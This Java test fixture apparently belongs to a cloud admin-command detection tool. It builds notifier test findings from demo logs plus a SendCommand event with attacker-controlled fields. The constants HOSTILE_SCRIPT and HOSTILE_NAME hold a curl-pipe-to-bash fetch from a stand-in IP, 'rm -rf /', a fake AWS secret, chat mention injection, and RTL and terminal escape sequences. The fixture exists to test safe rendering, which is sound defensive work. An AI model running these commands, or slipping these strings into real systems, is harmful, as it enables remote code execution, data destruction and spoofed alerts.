package io.runwatch.aws.notify;

import io.runwatch.core.detect.Detectors;
import io.runwatch.core.detect.Severity;
import io.runwatch.core.hunt.Hunt;
import io.runwatch.core.hunt.HuntSources;
import io.runwatch.core.ingest.Ingestor;
import io.runwatch.core.ingest.PayloadReport;
import io.runwatch.core.model.AdminCommand;
import io.runwatch.core.model.Cloud;
import io.runwatch.core.model.Principal;
import io.runwatch.core.policy.Policy;
import io.runwatch.core.policy.PolicyLoader;
import io.runwatch.core.triage.DetectionPipeline;
import io.runwatch.core.triage.Finding;
import io.runwatch.core.triage.Triage;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.Map;

/**
 * Real findings for the notifier tests: core's {@link DetectionPipeline} with every detector and
 * the example policy over the demo estate's logs ({@code infra/demo}, see its README), learning
 * until 2026-11-18 and judging the rest, as {@code runwatch hunt --learn-until 2026-11-18} does.
 *
 * <p>{@link #hostile()} is the demo's EventBridge SendCommand event ({@code
 * infra/demo/aws/eventbridge/aws-api-call-via-cloudtrail-sendcommand.json}) read by core's
 * ingestor, with what an attacker controls made hostile: the principal's display name (a role
 * session name or, on other clouds, a free display name) and the script text the SSM content source
 * fetches. It is judged by the same pipeline after the demo's history.
 */
final class NotifyFindings {
  static final Path REPO = Path.of(System.getProperty("runwatch.repo", ".."));
  static final Instant LEARN_UNTIL = Instant.parse("2026-11-18T00:00:00Z");

  static final String HOSTILE_NAME =
      "eve*bold* _it_ `tick` @here <!channel> [click](http://evil.example/x) \u202Egnp.exe\u202C"
          + " \u001b[31mRED\u001b[0m";
  static final String FAKE_SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";
  static final String HOSTILE_SCRIPT =
      "export AWS_SECRET_ACCESS_KEY="
          + FAKE_SECRET
          + "\ncurl -s http://203.0.113.66/x.sh | bash # @channel `rm -rf /` *now*\n"
          + "echo \u202Eevil\u202C \u001b]0;pwned\u0007";

  private static List<Finding> demo;

  private NotifyFindings() {}

  static synchronized List<Finding> demo() {
    if (demo == null) {
      Policy policy = PolicyLoader.load(REPO.resolve("infra/policy/example-policy.yaml"));
      List<Path> files = HuntSources.expand(List.of(REPO.resolve("infra/demo")));
      List<AdminCommand> commands = new Hunt(new Ingestor(), 1).run(files, e -> {}).commands();
      demo = run(commands, policy);
    }
    return demo;
  }

  private static List<Finding> run(List<AdminCommand> commands, Policy policy) {
    Instant now = commands.stream().map(AdminCommand::time).max(Comparator.naturalOrder()).get();
    return new DetectionPipeline(Detectors.all(), policy, new Triage())
        .run(
            commands,
            Map.of(),
            List.of(),
            List.of(),
            List.of(),
            Map.of(),
            LEARN_UNTIL,
            now.plusSeconds(3600))
        .findings();
  }

  /** The most severe AWS finding of the demo. */
  static Finding awsTop() {
    return demo().stream()
        .filter(f -> f.command().cloud() == Cloud.AWS)
        .max(Comparator.comparing(Finding::severity).thenComparing(Finding::score))
        .orElseThrow();
  }

  /** An AWS finding of exactly {@code s}, if the demo has one. */
  static java.util.Optional<Finding> aws(Severity s) {
    return demo().stream()
        .filter(f -> f.command().cloud() == Cloud.AWS && f.severity() == s)
        .findFirst();
  }

  /** The demo's SendCommand event with a hostile principal name and script, judged. */
  static Finding hostile() {
    try {
      Path event =
          REPO.resolve("infra/demo/aws/eventbridge/aws-api-call-via-cloudtrail-sendcommand.json");
      AdminCommand read =
          PayloadReport.read("eventbridge", Files.readAllBytes(event)).commands().get(0);
      Principal p = read.principal();
      AdminCommand hostile =
          read.toBuilder()
              .principal(
                  new Principal(p.id(), HOSTILE_NAME, p.kind(), p.issuer(), p.credentialId()))
              .content(HOSTILE_SCRIPT)
              .eventId("hostile-" + read.eventId())
              .build();
      Policy policy = PolicyLoader.load(REPO.resolve("infra/policy/example-policy.yaml"));
      List<Path> files = HuntSources.expand(List.of(REPO.resolve("infra/demo")));
      List<AdminCommand> commands =
          new ArrayList<>(new Hunt(new Ingestor(), 1).run(files, e -> {}).commands());
      commands.add(hostile);
      return run(commands, policy).stream()
          .filter(f -> f.command().eventId().equals(hostile.eventId()))
          .findFirst()
          .orElseThrow(() -> new AssertionError("the hostile command made no finding"));
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  static NotifyConfig config() {
    return new NotifyConfig(
        "arn:aws:sns:us-east-1:111122223333:runwatch-findings",
        "runwatch-contain",
        true,
        "us-east-1",
        "111122223333");
  }
}
